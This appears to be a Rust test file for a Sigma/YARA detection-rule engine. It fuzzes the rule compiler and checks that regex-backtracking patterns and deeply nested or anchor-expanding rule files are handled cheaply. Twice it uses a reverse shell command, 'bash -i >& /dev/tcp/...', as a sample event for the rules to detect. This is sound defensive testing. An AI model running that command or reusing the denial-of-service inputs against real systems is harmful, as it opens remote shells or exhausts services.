//! Arbitrary input neither panics nor costs much.

use std::time::{Duration, Instant};

use chrono::DateTime;
use proptest::prelude::*;
use proptest::test_runner::Config;
use sg_detect::{Event, FileFacts, LogSource, compile, default_pack};

use crate::support::{compile_one, indicators, pack, rule_text, sigma, yara};

/// Bytes as a rule file may hold them: noise, or words that rules are made of.
fn noise() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "title: x\n",
        "id: y\n",
        "logsource:\n",
        "  product: linux\n",
        "detection:\n",
        "  sel:\n",
        "    a|contains: 'b'\n",
        "    - c\n",
        "  condition: sel\n",
        "---\n",
        "|re",
        "'",
        "\"",
        "[",
        "{",
        "}",
        "]",
        "*",
        "&a ",
        "*a",
        "!t",
        "\t",
        "%x%",
        "|",
        "rule a { ",
        "strings: $a = ",
        "/a.*b/",
        "condition: ",
        "$a",
        "}",
        "meta:",
        "value,type\n",
        "x,sha256\n",
        ",",
        "\u{0}",
    ]);
    prop_oneof![
        prop::collection::vec(any::<u8>(), 0..300)
            .prop_map(|bytes| String::from_utf8_lossy(&bytes).into_owned()),
        prop::collection::vec(word, 0..40).prop_map(|words| words.concat()),
    ]
}

/// Sound rules with a piece cut out, doubled or replaced.
fn mutated_rule() -> impl Strategy<Value = (usize, String)> {
    let sources = default_pack();
    (
        0..sources.len(),
        any::<prop::sample::Index>(),
        any::<prop::sample::Index>(),
        noise(),
    )
        .prop_map(move |(file, from, to, noise)| {
            let text: Vec<char> = sources[file].text.chars().collect();
            let (a, b) = (from.index(text.len() + 1), to.index(text.len() + 1));
            let (from, to) = (a.min(b), a.max(b));
            let noise: String = noise.chars().take(40).collect();
            (
                file,
                text[..from]
                    .iter()
                    .chain(noise.chars().collect::<Vec<_>>().iter())
                    .chain(&text[to..])
                    .collect(),
            )
        })
}

proptest! {
    #![proptest_config(Config { cases: 200, ..Config::default() })]

    #[test]
    fn arbitrary_texts_are_compiled_or_refused(text in noise()) {
        let sources = [sigma("a", text.clone()), yara("b", text.clone()), indicators("c", text)];
        let (rules, diagnostics) = compile(&sources);
        for diagnostic in &diagnostics {
            prop_assert!(!diagnostic.to_string().is_empty());
        }
        rules.scan(b"content", "name");
    }

    #[test]
    fn damaged_rules_are_compiled_or_refused((file, text) in mutated_rule()) {
        let mut source = default_pack().swap_remove(file);
        source.text = text;
        let (rules, _) = compile(&[source]);
        let mut event = Event::new(LogSource::LINUX_PROCESS_CREATION);
        event.set_named("CommandLine", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1");
        prop_assert_eq!(rules.evaluate(&event), rules.evaluate_full_scan(&event));
    }

    #[test]
    fn arbitrary_events_are_evaluated(values in prop::collection::vec((any::<String>(), any::<String>()), 0..12), content in prop::collection::vec(any::<u8>(), 0..500)) {
        let rules = pack();
        let mut event = Event::new(LogSource::LINUX_PROCESS_CREATION);
        for (name, value) in &values {
            event.set_named(name.as_str(), value.as_str()).set_named("CommandLine", value.as_str());
        }
        prop_assert_eq!(rules.evaluate(&event), rules.evaluate_full_scan(&event));
        rules.scan(&content, "content");
        let path = values.first().map_or("", |(_, value)| value.as_str());
        rules.check_file(&FileFacts { path, ..FileFacts::default() }, DateTime::UNIX_EPOCH);
        rules.check_domain(path, DateTime::UNIX_EPOCH);
    }
}

/// Far beyond what each takes on a slow machine, and far below what a backtracking matcher would need.
const PATIENCE: Duration = Duration::from_secs(20);

#[test]
fn hostile_patterns_stay_cheap() {
    let begin = Instant::now();
    let line = "a".repeat(200_000);
    for entry in [
        "CommandLine|re: '(a+)+$b'",
        "CommandLine|re: '(a|aa)+b'",
        "CommandLine: '*a*a*a*a*a*a*a*a*b'",
        "CommandLine|contains: 'a?a?a?a?a?b'",
    ] {
        let rules = compile_one(&format!("    sel:\n        {entry}\n    condition: sel\n"));
        let event = crate::support::event(&[("CommandLine", &line)]);
        assert_eq!(rules.evaluate(&event), [], "{entry}");
    }
    assert!(begin.elapsed() < PATIENCE, "{:?}", begin.elapsed());
}

#[test]
fn hostile_rule_files_stay_cheap() {
    let begin = Instant::now();
    let wide = rule_text(
        "t",
        &format!(
            "    sel:\n        User|contains: [{}]\n    condition: sel\n",
            "ab,".repeat(100_000)
        ),
    );
    let anchors = (1..30).fold("a0: &a0 [x, x]\n".to_owned(), |text, level| {
        format!(
            "{text}a{level}: &a{level} [*a{0}, *a{0}, *a{0}, *a{0}]\n",
            level - 1
        )
    });
    let deep = format!("{}{}", "{a: ".repeat(5_000), "}".repeat(5_000));
    let parentheses = rule_text(
        "t",
        &format!(
            "    sel: {{User: x}}\n    condition: {}sel{}\n",
            "(".repeat(3_000),
            ")".repeat(3_000)
        ),
    );
    let yara_depth = format!(
        "rule a {{ condition: {}true{} }}",
        "(".repeat(10_000),
        ")".repeat(10_000)
    );
    let sources = [
        sigma("wide", wide),
        sigma("anchors", anchors),
        sigma("deep", deep),
        sigma("parentheses", parentheses),
        yara("deep", yara_depth),
    ];
    let (rules, diagnostics) = compile(&sources);
    assert_eq!(
        (rules.rules().len(), diagnostics.len()),
        (0, sources.len()),
        "{diagnostics:?}"
    );
    assert!(begin.elapsed() < PATIENCE, "{:?}", begin.elapsed());
}

#[test]
fn a_rule_set_is_shared_between_threads() {
    let (rules, _) = compile(&default_pack());
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                for _ in 0..200 {
                    let hit =
                        crate::support::event(&[("CommandLine", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1")]);
                    assert_eq!(rules.evaluate(&hit), rules.evaluate_full_scan(&hit));
                    assert_eq!(
                        rules.evaluate(&crate::support::event(&[("CommandLine", "ls -l")])),
                        []
                    );
                }
            });
        }
    });
}
